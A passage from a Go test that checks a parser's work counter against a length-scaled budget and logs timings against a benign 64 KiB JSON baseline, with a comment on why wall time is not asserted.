		if s.work > maxWorkBase+maxWorkPerByte*len(s.b)+1024 {
			t.Errorf("%s: work %d over the budget", name, s.work)
		}
		// The time is logged, not asserted: wall time on a shared machine
		// is noise (a CI run failed on it); the work budget above is the
		// bound; speed is held by the package's benchmarks.
		t.Logf("%-12s %8v (benign 64 KiB JSON %v)", name, best(p), benign)
	}
}
